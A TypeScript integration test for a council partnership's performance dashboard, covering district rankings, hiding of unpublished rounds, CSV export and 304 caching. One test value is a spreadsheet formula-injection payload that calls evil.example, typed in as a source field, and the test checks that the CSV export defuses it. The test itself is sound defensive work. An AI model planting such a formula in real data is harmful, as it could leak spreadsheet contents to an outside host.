/**
 * The performance dashboard and district benchmarking through the API on a real database (PGlite
 * and PostgreSQL). The test opens its own round, 2010/11 H1, and records NI 47's 12 district
 * values (the county's worked out from them) and NI 155's county count; the dashboard must agree
 * with the domain's rules applied one indicator at a time, keep an open round's values from the
 * public, rank the districts, write a formula-safe CSV and answer 304 when nothing has changed.
 */
import { sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { assessActual, baselineDateFor, plannedTrajectory } from "@accord/domain";
import type { TargetForm } from "@accord/domain";
import { actorForUser } from "../src/features/auth/actors.js";
import { indicatorScope } from "../src/features/indicators/scope.js";
import { assessIndicatorPerformance } from "../src/features/observations/performance.js";
import { listObservations, recordObservation } from "../src/features/observations/service.js";
import { RecordObservationBody } from "../src/features/observations/schema.js";
import { rankingCsvHeader } from "../src/features/performance/csv.js";
import { readDashboard } from "../src/features/performance/service.js";
import type { Dashboard, DashboardRow, DistrictPerformanceView, DistrictRanking, IndicatorPerformanceView } from "../src/features/performance/schema.js";
import type { Actor } from "../src/policy/authorize.js";
import { createTestApp } from "./support/app.js";
import type { TestApp } from "./support/app.js";
import { send, signIn } from "./support/session.js";
import type { Session } from "./support/session.js";
import { queryRows } from "./support/sql.js";

let api: TestApp;
let manager: Session;
const people = {} as Record<"manager" | "officer" | "lsp", Actor>;
const ka2 = "/api/agreements/kent-ka2";
const kent = "E10000016";
const thanet = "E07000114";
const formula = '=HYPERLINK("http://evil.example/?"&A1,"Thanet")';

/** NI 47 (killed or seriously injured, lower is better) in 2010/11 H1, by district; they add up to 720. */
const ni47 = {
  E07000105: "55", // Ashford
  E07000106: "70", // Canterbury
  E07000107: "40", // Dartford
  E07000108: "50", // Dover
  E07000109: "35", // Gravesham
  E07000110: "80", // Maidstone
  E07000111: "60", // Sevenoaks
  E07000112: "45", // Shepway
  E07000113: "75", // Swale
  E07000114: "65", // Thanet
  E07000115: "70", // Tonbridge and Malling
  E07000116: "75", // Tunbridge Wells
};

async function actorFor(email: string): Promise<Actor> {
  const [row] = await queryRows(api.database.db, sql`select id from users where email = ${email}`);
  const actor = await actorForUser(api.database.db, Number(row?.id));
  if (!actor) throw new Error(`no demo user ${email}`);
  return actor;
}

/** What the observation route will do: parse the body, then call the service. */
async function record(actor: Actor, key: string, body: Record<string, unknown>) {
  const scope = await indicatorScope(api.database.db, "kent-ka2", key);
  return recordObservation({ db: api.database.db, actor, scope, body: RecordObservationBody.parse(body) });
}

async function dashboard(session: Session | null, query = ""): Promise<Dashboard> {
  const answer = await send(api.app, session, { method: "GET", url: `${ka2}/performance${query}` });
  expect(answer.status, JSON.stringify(answer.body)).toBe(200);
  return answer.json<Dashboard>();
}

function rowOf(view: Dashboard, code: string, component = "all"): DashboardRow {
  const row = view.indicators.find((one) => one.code === code && one.component === component);
  if (!row) throw new Error(`${code} is not on the dashboard`);
  return row;
}

beforeAll(async () => {
  api = await createTestApp();
  manager = await signIn(api.app, "manager@kent-partnership.example");
  people.manager = await actorFor("manager@kent-partnership.example");
  people.officer = await actorFor("officer.ni47@kent-partnership.example");
  people.lsp = await actorFor("lsp.thanet@kent-partnership.example");
  const opened = await send(api.app, manager, { method: "POST", url: `${ka2}/rounds`, body: { period: "2010/11 H1" } });
  expect(opened.status).toBe(201);
  for (const [area, value] of Object.entries(ni47)) {
    // Thanet's own coordinator gives Thanet's value; the source is typed by a person, so it may be anything.
    const who = area === thanet ? people.lsp : people.officer;
    await record(who, "ni-47", { period: "2010/11 H1", area, value, ...(area === thanet ? { source: formula } : {}) });
  }
  await record(people.manager, "ni-155", { period: "2010/11 H1", area: kent, value: "700" });
});
afterAll(async () => {
  await api?.close();
});

describe("the dashboard", () => {
  it("stands at the round just opened for the manager, with NI 47's county worked out from its 12 districts and judged by the domain's rules", async () => {
    const view = await dashboard(manager);
    expect(view.agreement).toEqual({ slug: "kent-ka2", name: expect.stringContaining("Kent") });
    expect(view.round?.key).toBe("2010-11-h1");
    expect(view.rounds.map((round) => round.key)).toContain("2010-11-h1");
    const row = rowOf(view, "NI 47");
    // 1183 on 31 March 2008 to 591.5 on 31 March 2011 in a straight line: 689.8 on 30 September
    // 2010; 720 is 30.2 worse, within 10% of the 493.2 improvement planned by then: amber.
    const targets = await queryRows(
      api.database.db,
      sql`select x.financial_year as year, x.target from targets x join agreement_indicators ai on ai.id = x.agreement_indicator_id
          join indicator_definitions d on d.id = ai.indicator_id join agreements a on a.id = ai.agreement_id
          where a.slug = 'kent-ka2' and d.code = 'NI 47'`,
    );
    const trajectory = plannedTrajectory({
      baseline: { state: "known", value: "1183" },
      baselineAsAt: baselineDateFor("2008/09"),
      targets: targets.map((one) => ({ year: String(one.year), target: one.target as TargetForm })),
    });
    const expected = assessActual({ trajectory, polarity: "lower-is-better", date: "2010-09-30", actual: "720" });
    expect(row).toMatchObject({
      key: "ni-47",
      period: "2010/11 H1",
      actual: "720",
      status: "amber",
      polarity: "lower-is-better",
      returnStatus: "missing",
    });
    expect(expected.status).toBe("amber");
    expect(Number(row.planned)).toBeCloseTo(689.8, 1);
    // Progress: (1183 − 720) / (1183 − 591.5) = 78.3% of the way.
    expect(row.progress).toBe(78.3);
    expect(row.spark.at(-1)).toMatchObject({ period: "2010/11 H1", end: "2010-09-30", actual: "720" });
    expect(row.lead).toMatch(/Kent County Council/);
  });

  it("agrees with the domain's rules applied to each indicator on its own, and counts every status", async () => {
    const view = await dashboard(manager);
    const counts = { "target-met": 0, green: 0, amber: 0, red: 0, grey: 0 };
    for (const row of view.indicators) {
      const scope = await indicatorScope(api.database.db, "kent-ka2", row.key);
      const alone = await assessIndicatorPerformance({ db: api.database.db, actor: people.manager, scope, component: row.component });
      const latest = [...alone.periods].reverse().find((one) => one.actual !== null);
      if (latest) {
        expect({ code: row.code, period: row.period, actual: row.actual, status: row.status, direction: row.direction }).toEqual({
          code: row.code,
          period: latest.period.label,
          actual: latest.actual,
          status: latest.status,
          direction: latest.direction,
        });
      } else {
        expect({ code: row.code, actual: row.actual, status: row.status }).toEqual({ code: row.code, actual: null, status: "grey" });
      }
      counts[row.status] += 1;
    }
    expect(view.counts).toEqual(counts);
    // Every indicator and component of the agreement but the omitted NI 170.
    expect(view.indicators.some((row) => row.code === "NI 170")).toBe(false);
    expect(view.indicators.filter((row) => row.code === "NI 120").map((row) => row.component).sort()).toEqual(["all-persons", "female", "male"]);
    expect(view.indicators.length).toBeGreaterThanOrEqual(50);
  });

  it("reads NI 155 as the running total from its baseline", async () => {
    const row = rowOf(await dashboard(manager), "NI 155");
    const scope = await indicatorScope(api.database.db, "kent-ka2", "ni-155");
    const listed = await listObservations({ db: api.database.db, actor: people.manager, scope });
    expect(row.actual).toBe(listed.periods.at(-1)?.county.runningTotal);
    expect(row.period).toBe("2010/11 H1");
  });

  it("filters by theme, status, lead partner and district, counting before the status filter", async () => {
    const all = await dashboard(manager);
    const moving = await dashboard(manager, "?theme=keeping-kent-moving");
    expect(moving.indicators.map((row) => row.code).sort()).toEqual(["NI 175", "NI 198", "NI 198", "NI 47"].sort());
    const amber = await dashboard(manager, "?theme=keeping-kent-moving&status=amber");
    expect(amber.indicators.every((row) => row.status === "amber")).toBe(true);
    expect(amber.indicators.map((row) => row.code)).toContain("NI 47");
    expect(amber.counts).toEqual(moving.counts);
    const police = await dashboard(manager, "?lead=kent-police");
    expect(police.indicators.length).toBeGreaterThan(0);
    expect(police.indicators.every((row) => row.leads.some((lead) => lead.slug === "kent-police"))).toBe(true);
    expect(police.indicators.length).toBeLessThan(all.indicators.length);
    const inThanet = await dashboard(manager, `?district=${thanet}`);
    expect(rowOf(inThanet, "NI 47").district).toEqual({ area: thanet, name: "Thanet", value: "65" });
  });

  it("refuses a filter the agreement does not have, naming the field", async () => {
    for (const [query, field] of [
      ["?theme=no-such-theme", "theme"],
      ["?lead=nobody-at-all", "lead"],
      ["?district=E07000999", "district"],
      ["?status=purple", "status"],
    ] as const) {
      const answer = await send(api.app, manager, { method: "GET", url: `${ka2}/performance${query}` });
      expect(answer.status, query).toBe(400);
      expect(JSON.stringify(answer.body), query).toContain(field);
    }
    const unknown = await send(api.app, manager, { method: "GET", url: `${ka2}/performance?round=2019-20-h1` });
    expect(unknown.status).toBe(404);
  });

  it("gives the same dashboard to the web app's read and to readDashboard, the function the report reuses", async () => {
    const viaService = await readDashboard({ db: api.database.db, actor: people.manager, slug: "kent-ka2", filters: { theme: "keeping-kent-moving" } });
    expect(viaService).toEqual(await dashboard(manager, "?theme=keeping-kent-moving"));
  });
});

describe("the public", () => {
  it("does not see an open round or its values, on the dashboard, the chart or the district tables", async () => {
    const view = await dashboard(null);
    expect(view.rounds.every((round) => round.status === "published")).toBe(true);
    expect(view.round?.key).not.toBe("2010-11-h1");
    const row = rowOf(view, "NI 47");
    expect(row.period).not.toBe("2010/11 H1");
    expect(row.actual).not.toBe("720");
    expect(row.spark.map((point) => point.period)).not.toContain("2010/11 H1");
    const hidden = await send(api.app, null, { method: "GET", url: `${ka2}/performance?round=2010-11-h1` });
    expect(hidden.status).toBe(404);
    const chart = await send(api.app, null, { method: "GET", url: `${ka2}/indicators/ni-47/performance` });
    expect(chart.status).toBe(200);
    expect(chart.json<IndicatorPerformanceView>().periods.map((one) => one.period)).not.toContain("2010/11 H1");
    const districts = await send(api.app, null, { method: "GET", url: `${ka2}/indicators/ni-47/districts?round=2010-11-h1` });
    expect(districts.status).toBe(404);
    const mine = await send(api.app, null, { method: "GET", url: `${ka2}/districts/${thanet}/performance` });
    expect(mine.status).toBe(200);
    expect(mine.json<DistrictPerformanceView>().period).not.toBe("2010/11 H1");
    // Nor through the values themselves, as the observations route will list them.
    const scope = await indicatorScope(api.database.db, "kent-ka2", "ni-47");
    const listed = await listObservations({ db: api.database.db, actor: null, scope });
    expect(listed.periods.map((one) => one.period.label)).not.toContain("2010/11 H1");
    const forManager = await listObservations({ db: api.database.db, actor: people.manager, scope });
    expect(forManager.periods.map((one) => one.period.label)).toContain("2010/11 H1");
  });
});

describe("district benchmarking", () => {
  it("ranks NI 47's 12 districts lowest first, ties sharing a rank, with each one's share of the county's 720", async () => {
    const answer = await send(api.app, manager, { method: "GET", url: `${ka2}/indicators/ni-47/districts?round=2010-11-h1` });
    expect(answer.status).toBe(200);
    const ranking = answer.json<DistrictRanking>();
    expect(ranking).toMatchObject({ period: "2010/11 H1", county: { value: "720" }, better: "lower", count: true });
    expect(ranking.districts).toHaveLength(12);
    expect(ranking.districts.map((one) => [one.name, one.rank])).toEqual([
      ["Gravesham", 1],
      ["Dartford", 2],
      ["Shepway", 3],
      ["Dover", 4],
      ["Ashford", 5],
      ["Sevenoaks", 6],
      ["Thanet", 7],
      ["Canterbury", 8],
      ["Tonbridge and Malling", 8],
      ["Swale", 10],
      ["Tunbridge Wells", 10],
      ["Maidstone", 12],
    ]);
    // 65 of 720 = 9.03%, to one place.
    expect(ranking.districts.find((one) => one.area === thanet)).toMatchObject({ value: "65", share: "9", fromCounty: null });
  });

  it("writes the ranking as CSV with its header, the formula typed as a source neutralised", async () => {
    const answer = await api.app.inject({ method: "GET", url: `${ka2}/indicators/ni-47/districts?round=2010-11-h1&format=csv`, headers: { cookie: manager.cookie } });
    expect(answer.statusCode).toBe(200);
    expect(answer.headers["content-type"]).toMatch(/^text\/csv/);
    expect(answer.headers["content-disposition"]).toMatch(/attachment; filename="kent-ka2-ni-47-districts-2010-11-h1.csv"/);
    const lines = answer.body.replace(/^\uFEFF/, "").split("\r\n");
    expect(lines[0]).toBe(rankingCsvHeader.join(","));
    const thanetLine = lines.find((one) => one.includes(thanet));
    expect(thanetLine).toBe(`7,${thanet},Thanet,65,9,,"'=HYPERLINK(""http://evil.example/?""&A1,""Thanet"")"`);
    expect(answer.body).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it("shows Thanet's coordinator Thanet across every indicator, furthest behind the county first, and as CSV", async () => {
    const lsp = await signIn(api.app, "lsp.thanet@kent-partnership.example");
    const answer = await send(api.app, lsp, { method: "GET", url: `${ka2}/districts/${thanet}/performance?round=2010-11-h1` });
    expect(answer.status).toBe(200);
    const view = answer.json<DistrictPerformanceView>();
    expect(view).toMatchObject({ area: thanet, name: "Thanet", period: "2010/11 H1" });
    expect(view.indicators.find((one) => one.code === "NI 47")).toMatchObject({ districtValue: "65", countyValue: "720", gap: null, rank: 7, of: 12 });
    const gaps = view.indicators.map((one) => one.gap).filter((gap): gap is string => gap !== null).map(Number);
    expect(gaps).toEqual([...gaps].sort((a, b) => b - a));
    const csv = await api.app.inject({ method: "GET", url: `${ka2}/districts/${thanet}/performance?round=2010-11-h1&format=csv`, headers: { cookie: lsp.cookie } });
    expect(csv.statusCode).toBe(200);
    const lines = csv.body.replace(/^\uFEFF/, "").split("\r\n");
    expect(lines[0]).toBe("Code,Indicator,Component,Unit,District value,County value,Gap (% worse than county),Rank,Of,Source");
    expect(csv.body).toContain("'=HYPERLINK");
    const unknown = await send(api.app, lsp, { method: "GET", url: `${ka2}/districts/E07000999/performance` });
    expect(unknown.status).toBe(404);
  });
});

describe("fast reads", () => {
  it("answers 304 while nothing has changed and the new figures straight after a value is recorded", async () => {
    const first = await api.app.inject({ method: "GET", url: `${ka2}/performance`, headers: { cookie: manager.cookie } });
    const tag = first.headers.etag;
    expect(typeof tag).toBe("string");
    const again = await api.app.inject({ method: "GET", url: `${ka2}/performance`, headers: { cookie: manager.cookie, "if-none-match": String(tag) } });
    expect(again.statusCode).toBe(304);
    expect(again.body).toBe("");
    // The public's answer differs from the manager's, so it has its own tag.
    const publicRead = await api.app.inject({ method: "GET", url: `${ka2}/performance`, headers: { "if-none-match": String(tag) } });
    expect(publicRead.statusCode).toBe(200);
    const scope = await indicatorScope(api.database.db, "kent-ka2", "ni-47");
    const listed = await listObservations({ db: api.database.db, actor: people.manager, scope });
    const ashford = listed.periods.find((one) => one.period.label === "2010/11 H1")?.districts.find((one) => one.area === "E07000105");
    await record(people.officer, "ni-47", { period: "2010/11 H1", area: "E07000105", value: "56", version: ashford?.observation?.version });
    const changed = await api.app.inject({ method: "GET", url: `${ka2}/performance`, headers: { cookie: manager.cookie, "if-none-match": String(tag) } });
    expect(changed.statusCode).toBe(200);
    expect(changed.headers.etag).not.toBe(tag);
    expect(rowOf(changed.json<Dashboard>(), "NI 47").actual).toBe("721");
  });

  it("shows the public the round once it is closed and published", async () => {
    const round = await send(api.app, manager, { method: "GET", url: `${ka2}/rounds/2010-11-h1` });
    const closed = await send(api.app, manager, { method: "POST", url: `${ka2}/rounds/2010-11-h1/close`, body: { version: round.json<{ version: number }>().version } });
    expect(closed.status).toBe(200);
    const published = await send(api.app, manager, { method: "POST", url: `${ka2}/rounds/2010-11-h1/publish`, body: { version: closed.json<{ version: number }>().version } });
    expect(published.status).toBe(200);
    const view = await dashboard(null);
    expect(view.round?.key).toBe("2010-11-h1");
    expect(rowOf(view, "NI 47")).toMatchObject({ period: "2010/11 H1", actual: "721", status: "amber" });
  });
});
